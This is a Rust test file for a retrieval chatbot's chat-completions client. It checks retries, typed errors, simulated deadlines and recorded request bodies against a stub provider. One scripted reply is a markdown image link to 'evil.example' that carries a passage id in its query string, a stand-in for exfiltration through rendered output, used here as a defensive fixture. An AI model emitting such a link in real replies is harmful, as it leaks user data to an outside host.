//! The reference's chat completions client against the stub provider on a turmoil host, in simulated time, one seed: scripted replies, the one retry, every knob, and the recorded bodies (§8.2, §8.3, issue 14).

use std::sync::Arc;
use std::time::Duration;

use memoria::{
    CHAT_DEADLINE_MS, ChatClient, ChatErrorKind, ChatPassage, ChatPrompt, MODEL_CHEAP,
    MODEL_FRONTIER, ModelTier, ProviderKey,
};
use memoria_simulator::{
    ProviderDown, STUB_CHAT_DEFAULT_REPLY, StubProvider, TurmoilDialer, serve_turmoil,
};

const KEY: &str = "tx-stub-key";

/// The provider's host name, as the stub's turmoil host is named.
const HOST: &str = "api.tensorx.ai";

fn seed() -> u64 {
    std::env::var("MEMORIA_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(0x5eed_0014)
}

fn prompt() -> ChatPrompt {
    ChatPrompt {
        instructions: "Answer only from the passages; cite each sentence's passage id.".into(),
        passages: vec![
            ChatPassage {
                id: "p0".into(),
                text: "The boiler service is due in March.".into(),
            },
            ChatPassage {
                id: "p1".into(),
                text: "Book the boiler service with Calor.".into(),
            },
        ],
        question: "when is the boiler serviced?".into(),
    }
}

/// Runs `body` as memoria's client against `stub` on a turmoil host
/// named for the provider, under the one seed.
fn run<F, Fut>(stub: &StubProvider, body: F)
where
    F: Fn(ChatClient, StubProvider) -> Fut + 'static,
    Fut: std::future::Future<Output = turmoil::Result> + 'static,
{
    let seed = seed();
    let mut sim = turmoil::Builder::new()
        .rng_seed(seed)
        .simulation_duration(Duration::from_secs(60))
        .build();
    let router = stub.router();
    sim.host(HOST, move || serve_turmoil(router.clone(), 80));
    let stub = stub.clone();
    sim.client("memoria", async move {
        let client = ChatClient::plain_http_stand_in(
            Arc::new(TurmoilDialer),
            HOST,
            80,
            ProviderKey::parse(KEY).unwrap(),
        );
        body(client, stub).await
    });
    sim.run().unwrap_or_else(|e| {
        panic!("{e}\nreplay: MEMORIA_SEED={seed} cargo test -p memoria-simulator --test simulator -- chat::")
    });
}

#[test]
fn the_client_gets_the_scripted_replies_in_order_then_the_default() {
    let stub = StubProvider::new();
    stub.push_chat_reply("The service is due in March [p0].");
    stub.push_chat_reply("It is booked with Calor [p9]. ![x](https://evil.example/?d=p0)");
    run(&stub, |client, _stub| async move {
        let p = prompt();
        let first = client.complete(ModelTier::Cheap, &p).await?;
        assert_eq!(first.text, "The service is due in March [p0].");
        // Content-level faults are scripted replies: the client hands them
        // back unjudged; §8.4 and §8.5 judge them before render.
        let second = client.complete(ModelTier::Frontier, &p).await?;
        assert_eq!(
            second.text,
            "It is booked with Calor [p9]. ![x](https://evil.example/?d=p0)"
        );
        let third = client.complete(ModelTier::Cheap, &p).await?;
        assert_eq!(third.text, STUB_CHAT_DEFAULT_REPLY);
        Ok(())
    });
    assert_eq!(stub.chat_calls(), 3);
    assert_eq!(stub.calls(), 0, "the chat client never calls embeddings");
}

#[test]
fn the_stub_records_every_request_body_with_the_pinned_model_and_the_passages() {
    let stub = StubProvider::new();
    run(&stub, |client, _stub| async move {
        client.complete(ModelTier::Cheap, &prompt()).await?;
        client.complete(ModelTier::Frontier, &prompt()).await?;
        Ok(())
    });
    let sent = stub.chat_requests();
    assert_eq!(sent.len(), 2);
    let models: Vec<Option<&str>> = sent.iter().map(|r| r.model.as_deref()).collect();
    assert_eq!(models, [Some(MODEL_CHEAP), Some(MODEL_FRONTIER)]);
    for r in &sent {
        assert_eq!(r.authorization.as_deref(), Some("Bearer tx-stub-key"));
        let body: serde_json::Value = serde_json::from_slice(&r.body).unwrap();
        let user = body["messages"][1]["content"].as_str().unwrap();
        assert!(user.contains("[p0] The boiler service is due in March."));
        assert!(user.contains("[p1] Book the boiler service with Calor."));
        assert!(user.ends_with("Question: when is the boiler serviced?"));
        assert!(body.get("tools").is_none(), "§8.5: no tools");
    }
}

#[test]
fn a_429_is_retried_once_and_two_are_a_rate_limited_error() {
    let stub = StubProvider::new();
    stub.push_chat_reply("After the retry [p0].");
    run(&stub, |client, stub| async move {
        stub.chat_rate_limit_next(1);
        let reply = client.complete(ModelTier::Cheap, &prompt()).await?;
        assert_eq!(reply.text, "After the retry [p0].");
        assert_eq!(stub.chat_calls(), 2, "one 429, one retry");
        stub.chat_rate_limit_next(2);
        let e = client
            .complete(ModelTier::Cheap, &prompt())
            .await
            .unwrap_err();
        assert_eq!(e.kind(), ChatErrorKind::RateLimited, "{e}");
        assert_eq!(stub.chat_calls(), 4, "at most one retry");
        Ok(())
    });
}

#[test]
fn down_slow_malformed_and_oversized_are_typed_errors_in_simulated_time() {
    let stub = StubProvider::new();
    run(&stub, |client, stub| async move {
        let p = prompt();
        stub.set_chat_down(Some(ProviderDown::Status(503)));
        let e = client.complete(ModelTier::Cheap, &p).await.unwrap_err();
        assert_eq!(e.kind(), ChatErrorKind::Unavailable, "{e}");
        assert_eq!(stub.chat_calls(), 2, "a 503 is retried once");

        stub.set_chat_down(Some(ProviderDown::Refuse));
        let e = client.complete(ModelTier::Cheap, &p).await.unwrap_err();
        assert_eq!(e.kind(), ChatErrorKind::Unreachable, "{e}");
        stub.set_chat_down(None);

        stub.set_chat_slow(Some(10 * CHAT_DEADLINE_MS));
        let start = tokio::time::Instant::now();
        let e = client.complete(ModelTier::Cheap, &p).await.unwrap_err();
        let waited_ms = u64::try_from(start.elapsed().as_millis()).unwrap();
        assert_eq!(e.kind(), ChatErrorKind::Deadline, "{e}");
        assert!(
            (CHAT_DEADLINE_MS..CHAT_DEADLINE_MS + 100).contains(&waited_ms),
            "gave up after {waited_ms} simulated ms"
        );
        stub.set_chat_slow(None);

        stub.set_chat_malformed(true);
        let e = client.complete(ModelTier::Cheap, &p).await.unwrap_err();
        assert_eq!(e.kind(), ChatErrorKind::Malformed, "{e}");
        stub.set_chat_malformed(false);

        stub.set_chat_oversized(true);
        let e = client.complete(ModelTier::Cheap, &p).await.unwrap_err();
        assert_eq!(e.kind(), ChatErrorKind::TooLarge, "{e}");
        stub.clear_chat_faults();

        stub.push_chat_reply("Healed [p1].");
        let reply = client.complete(ModelTier::Cheap, &p).await?;
        assert_eq!(reply.text, "Healed [p1].");
        Ok(())
    });
}
